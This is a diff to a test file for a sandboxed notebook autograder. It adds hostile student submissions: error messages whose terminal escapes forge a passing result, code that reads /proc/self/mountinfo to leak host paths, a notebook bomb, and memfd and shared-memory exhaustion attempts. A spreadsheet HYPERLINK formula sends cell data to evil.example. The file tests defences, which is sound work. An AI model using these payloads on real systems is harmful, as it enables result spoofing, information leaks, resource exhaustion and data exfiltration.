@@ -10,6 +10,7 @@ import hashlib
 import json
 import os
 import stat
+import subprocess
 import sys
 from pathlib import Path
 
@@ -29,6 +30,15 @@ pytestmark = pytest.mark.skipif(
     isolation.unavailable_reason() is not None,
     reason=f"no OS sandbox here ({isolation.unavailable_reason()}); .ci/run installs bubblewrap")
 
+# judged functions whose error is hostile feedback text (frag-test: 2 points, judged outside
+# after an inside check that only asks for a callable)
+RAISING = {
+    "0_surrogate": "raise ValueError('\\ud800')",   # sorted first: it once stopped the rest
+    "0_escapes": "raise ValueError('\\x1b[2J\\x1b[1A\\x1b[2K[PASS] frag-test')",
+    "mountinfo_leak": "raise ValueError(' '.join(f.split()[3] + '>' + f.split()[4] for f in "
+                      "open('/proc/self/mountinfo') if 'gml-' in f or '.venv' in f or 'pyenv' "
+                      "in f))",
+}
 ODD = {"csv_formula": "=HYPERLINK(\"evil.example?x=\"&A1)", "odd_plus": "+2+3",
        "odd_at": "@SUM(1)", "odd_newline": "a\nb", "odd_rtl": "\u202eevil"}
 BYTES_NAME = os.fsdecode(b"odd\xff\xfebytes")
@@ -78,6 +88,14 @@ def graded(tmp_path_factory):
         nb = M.answered(student, answers[kind])
         nb.cells.insert(0, nbformat.v4.new_code_cell(A.wrap(cell)))
         write_nb(subs / name, nb)
+    for name, body in RAISING.items():
+        write_nb(subs / name, M.answered(student, {
+            **M.RIGHT, "frag-answer": "def fragmentation(snapshot):\n    " + body}))
+    # one cell with 60,000 outputs of an unknown type: invalid for nbformat, costly to validate
+    bomb = json.loads(nbformat.writes(M.answered(student, M.RIGHT)))
+    bomb["cells"][0]["outputs"] = [{"output_type": "weird", "n": i} for i in range(60_000)]
+    (subs / "outputs_bomb").mkdir()
+    (subs / "outputs_bomb" / "lab.ipynb").write_text(json.dumps(bomb))
     write_nb(subs / "victim", M.answered(student, M.RIGHT))
     write_nb(subs / "right", M.answered(student, M.RIGHT))
     write_nb(subs / "wrong", M.answered(student, M.WRONG))
@@ -115,7 +133,7 @@ def row(graded, display):
 
 def test_the_run_finishes_with_a_row_for_every_submission(graded):
     assert graded["status"] == 0
-    assert len(graded["rows"]) == len(graded["table"]) + 3 + len(ODD) + 1 + 5
+    assert len(graded["rows"]) == len(graded["table"]) + 3 + len(ODD) + 1 + 5 + len(RAISING) + 1
 
 
 def test_honest_submissions_score_as_before(graded):
@@ -174,3 +192,57 @@ def test_feedback_shows_no_teacher_path_or_hidden_test(graded):
             text = path.read_text(encoding="utf-8")
             assert tmp not in text and "/tmp/gml-" not in text, path
             assert "assert_correct" not in text and "BEGIN HIDDEN" not in text, path
+            for root in isolation.python_roots():   # the virtual environment, the interpreter
+                assert root not in text, (path, root)
+            assert "gml-kit-" not in text and "gml-grade-" not in text, path
+
+
+def test_hostile_error_text_is_cleaned_and_stops_no_one(graded):
+    feedback = graded["out"] / "feedback"
+    for name in RAISING:
+        assert float(row(graded, name)["score"]) == 3   # only frag-test fails
+        text = (feedback / name / "feedback.txt").read_text(encoding="utf-8")
+        assert "[FAIL] frag-test" in text
+        assert "\x1b" not in text and "\ud800" not in text
+    assert "\\ud800" in (feedback / "0_surrogate" / "feedback.txt").read_text(encoding="utf-8")
+    assert "\\x1b[2J" in (feedback / "0_escapes" / "feedback.txt").read_text(encoding="utf-8")
+    assert "<python>" in (feedback / "mountinfo_leak" / "feedback.txt").read_text()
+
+
+def test_a_notebook_full_of_unknown_outputs_is_graded_on_its_cells(graded):
+    assert float(row(graded, "outputs_bomb")["score"]) == 5
+
+
+def test_memfd_and_shared_memory_are_denied_and_tmpfs_is_sized(tmp_path):
+    code = """
+import os
+try:
+    fd = os.memfd_create('hold')
+    for _ in range(1152):                 # 1,152 MiB that no rlimit counts
+        os.write(fd, b'x' * (1 << 20))
+    print('memfd held 1152 MiB')
+except OSError as exc:
+    print('memfd refused', exc.errno)
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+print('shmget', libc.shmget(0, 1 << 20, 0o1000 | 0o600), ctypes.get_errno())
+try:
+    with open('/dev/shm/fill', 'wb') as f:
+        for _ in range(128):
+            f.write(b'x' * (1 << 20))
+    print('shm took 128 MiB')
+except OSError as exc:
+    print('shm full', exc.errno)
+"""
+    home, io, kit = (tmp_path / n for n in ("home", "io", "kit"))
+    for d in (home, io, kit):
+        d.mkdir()
+        os.chmod(d, 0o755)
+    argv, fds, cleanup = isolation.sandboxed_command(home, io, kit, [sys.executable, "-c", code],
+                                                     memory_bytes=1 << 30)
+    try:
+        out = subprocess.run(argv, pass_fds=fds, capture_output=True, text=True, timeout=120)
+    finally:
+        cleanup()
+    assert out.stdout.split("\n")[:3] == ["memfd refused 1", "shmget -1 1", "shm full 28"], \
+        out.stdout + out.stderr
